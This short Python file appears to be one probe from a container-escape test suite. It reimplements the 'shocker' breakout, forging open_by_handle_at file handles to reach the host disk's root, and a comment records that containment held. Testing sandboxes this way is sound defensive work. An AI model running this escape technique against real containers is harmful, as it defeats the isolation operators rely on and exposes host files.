# Opens files by the kernel's own handles, which know no mount points: inode 2 is the root of a disk.
# This is how "shocker" left the first Docker: whoever may open by handle sees the whole file system.
# contained: passed
import ctypes


def attack():
    handle = ctypes.create_string_buffer(8 + 128)
    mount = ctypes.c_int()

    def handle_of(path):
        ctypes.memmove(handle, (128).to_bytes(4, "little"), 4)
        syscall("name_to_handle_at", -100, path.encode(), handle, ctypes.byref(mount), 0)

    def root_of_the_disk(path):
        fd = os.open(path, os.O_RDONLY)
        for generation in (0, 1):
            body = (2).to_bytes(4, "little") + generation.to_bytes(4, "little")
            found = (8).to_bytes(4, "little") + (1).to_bytes(4, "little") + body
            try:
                return os.listdir(syscall("open_by_handle_at", fd, found, os.O_RDONLY))
            except OSError:
                continue
        raise OSError

    return first(
        {
            **{
                f"handle {path}": lambda path=path: handle_of(path)
                for path in ("/", "/usr/lib", "/tmp")
            },
            **{
                f"root {path}": lambda path=path: root_of_the_disk(path)
                for path in ("/", "/usr/lib", "/tmp")
            },
        }
    )
